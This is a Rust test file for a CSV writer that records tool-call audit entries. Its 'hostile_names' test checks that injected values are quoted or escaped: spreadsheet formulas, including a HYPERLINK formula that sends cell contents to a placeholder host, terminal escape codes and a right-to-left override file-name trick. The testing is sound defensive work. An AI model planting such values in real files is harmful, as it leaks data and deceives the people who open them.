use super::{COLUMNS, Sheet};
use crate::call::Call;
use crate::index::tests::{full_call, refused_call};

fn written(calls: &[Call]) -> String {
    let mut bytes = Vec::new();
    let mut sheet = Sheet::new(&mut bytes).unwrap();
    for call in calls {
        sheet.write(call).unwrap();
    }
    sheet.finish().unwrap();
    String::from_utf8(bytes).unwrap()
}

#[test]
fn a_whole_line_and_one_with_little() {
    let text = written(&[full_call(), refused_call()]);
    let lines: Vec<&str> = text.split("\r\n").collect();
    assert_eq!(lines.len(), 4, "each line ends with CRLF: {text}");
    assert_eq!(lines[0], COLUMNS.join(","));
    assert_eq!(
        lines[1],
        "7,2026-11-23T00:00:00.000Z,allow,answered,allowed,,caller,files,tools/call,read_file,\
         inside also,path-guard secrets,sha256:aa sha256:bb,ops,approve,5,8,2026-11-23T00:00:00.250Z,\
         true,28,40,900,txn,sha256:cc"
    );
    assert_eq!(
        lines[2],
        "9,2026-11-23T00:00:01.000Z,deny,,outside-root,agent,caller,files,ping,,,,,,,,,,,,,,txn2,"
    );
    assert_eq!(lines[3], "");
}

/// Names as cells: quoted where RFC 4180 wants it, and never a formula.
#[test]
fn hostile_names() {
    for (name, cell) in [
        ("plain", "plain"),
        ("a,b", "\"a,b\""),
        ("a\"b", "\"a\"\"b\""),
        ("=1+1", "'=1+1"),
        (
            "=HYPERLINK(\"http://e/?\"&A1,\"x\")",
            "\"'=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\"",
        ),
        ("+1", "'+1"),
        ("-pseudonym", "'-pseudonym"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("'quoted", "''quoted"),
        ("\u{ff1d}1", "'\u{ff1d}1"),
        ("\t=1", "\\u{9}=1"),
        ("\r\n=1", "\\u{d}\\u{a}=1"),
        ("a\u{1b}[2J", "a\\u{1b}[2J"),
        ("\u{202e}gpj.exe", "\\u{202e}gpj.exe"),
        ("a=1", "a=1"),
        ("é漢😀", "é漢😀"),
    ] {
        let call = Call {
            principal: name.to_owned(),
            ..refused_call()
        };
        let text = written(&[call]);
        let line = text.split_once("\r\n").unwrap().1;
        let expected = format!("agent,{cell},files,");
        assert!(line.contains(&expected), "{name:?} gave {line}");
        assert_eq!(line.matches('\n').count(), 1, "one line: {line:?}");
    }
}

/// A reader that has gone away.
struct Gone;

impl std::io::Write for Gone {
    fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
        Err(std::io::ErrorKind::BrokenPipe.into())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[test]
fn what_the_writer_says_is_passed_on() {
    let mut sheet = Sheet::new(Gone).unwrap();
    let failed = (0..1_000).find_map(|_| sheet.write(&full_call()).err());
    assert_eq!(failed.unwrap().kind(), std::io::ErrorKind::BrokenPipe);
    let error = Sheet::new(Gone).unwrap().finish().unwrap_err();
    assert_eq!(error.kind(), std::io::ErrorKind::BrokenPipe);
}
